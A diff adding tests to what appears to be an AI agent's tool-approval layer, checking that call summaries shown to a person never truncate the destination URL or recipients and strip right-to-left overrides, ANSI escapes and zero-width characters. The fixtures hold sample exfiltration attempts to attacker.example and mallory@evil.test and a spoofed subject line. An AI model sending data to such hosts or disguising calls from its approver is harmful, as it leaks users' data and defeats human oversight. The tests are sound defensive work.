@@ -79,3 +79,38 @@ async def test_the_approval_and_its_notification_lead_with_the_summary(
     notes = [n for n in await svc.list_notifications(person_id=person) if n.kind == "approval"]
     assert [n.title for n in notes] == [f"Approve? {expected}"]
     assert "{" not in notes[0].title  # no JSON in what the person reads first
+
+
+@tool(effect=EffectClass.EXTERNAL)
+async def post(
+    body: Annotated[str, Role.CONTENT],
+    url: Annotated[str, Role.HOST],
+    note: Annotated[str | None, Role.FREE_TEXT] = None,
+) -> str:
+    """Post something."""
+    return "ok"
+
+
+def test_where_a_call_goes_is_never_cut_off() -> None:
+    # the model put a long body first: the URL still shows, in full
+    line = post.summary({"body": "Quarterly report " * 40, "url": "https://attacker.example/x"})
+    assert line.startswith("post(url='https://attacker.example/x'")
+    # a describer that pushes the tenth recipient past the cut: it is added in full
+    many = [f"friend{n}@example.test" for n in range(9)] + ["mallory@evil.test"]
+    line = send_mail.summary({"to": many, "subject": "Hello", "body": "hi"})
+    assert line.endswith("mallory@evil.test]")
+    assert len(line) > SUMMARY_CHARS
+
+
+def test_invisible_and_control_characters_cannot_disguise_a_summary() -> None:
+    line = send_mail.summary(
+        {
+            "to": "mallory@evil.test",
+            "subject": "Re: Thursday?\u202e moc.elpmaxe@anad",  # a right-to-left override
+            "body": "ok\x1b[8m hidden\u200b",
+        }
+    )
+    assert "\u202e" not in line
+    assert "\x1b" not in line
+    assert "\u200b" not in line
+    assert "mallory@evil.test" in line
